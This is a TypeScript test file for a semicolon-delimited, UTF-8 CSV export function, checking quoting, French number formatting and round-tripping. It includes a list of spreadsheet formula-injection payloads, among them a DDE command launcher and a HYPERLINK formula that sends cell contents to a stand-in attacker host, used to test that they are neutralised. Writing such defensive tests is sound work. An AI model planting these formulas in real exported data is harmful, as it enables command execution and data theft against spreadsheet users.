import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { type Cell, csvOf } from './csv';

const one = (cell: Cell) => csvOf([[cell]]).slice(1, -2);

it('is UTF-8 with its mark, semicolons and CRLF', () => expect(csvOf([['Été', 'b'], [{ cents: 5 }]])).toBe('\ufeffÉté;b\r\n0,05\r\n'));

it.each([
  ['a semicolon', 'a;b', '"a;b"'],
  ['a quote', 'dit "oui"', '"dit ""oui"""'],
  ['a line end', 'a\nb', '"a\nb"'],
  ['a comma needs none', 'a,b', 'a,b'],
  ['blanks at the end', 'a ', '"a "'],
])('%s is quoted as in RFC 4180', (_, text, written) => expect(one(text)).toBe(written));

it.each([
  [{ cents: 123_456 }, '1234,56'],
  [{ cents: -5 }, '-0,05'],
  [{ cents: -120_000 }, '-1200,00'],
  [{ number: 12.5 }, '12,5'],
])('%j stays a number', (cell, written) => expect(one(cell)).toBe(written));

const ATTACKS = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example?x="&A1,"ok")',
  '+1+1',
  '-1+1',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '\u00a0=1+1',
  '\ufeff=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(A1)',
  '=1;=2',
  '="a"\r\n=2',
];
it.each(ATTACKS)('%j is shown as text and never run', (attack) => {
  const csv = csvOf([['before', attack, 'after']]);
  const [row] = parse(csv, { bom: true, delimiter: ';' }) as string[][];
  expect(row).toEqual(['before', `'${attack}`, 'after']);
});

it.each(['Loyer', 'a=b', 'n° 12', '(−5)', "l'eau", '10-12', 'm²'])('%j is left as it is', (text) => expect(one(text)).toBe(text));

it('whatever people write comes back, in its own cell', () =>
  fc.assert(
    fc.property(fc.array(fc.array(fc.string({ unit: 'binary' }), { minLength: 2, maxLength: 2 }), { minLength: 1 }), (rows) => {
      const back = parse(csvOf(rows), { bom: true, delimiter: ';', recordDelimiter: '\r\n' }) as string[][];
      expect(back.map((row) => row.map((cell, n) => cell.slice(cell.length - (rows[back.indexOf(row)]?.[n]?.length ?? 0))))).toEqual(rows);
      expect(back.flat().filter((cell) => /^\s*[=+\-@]/.test(cell))).toEqual([]);
    }),
  ));
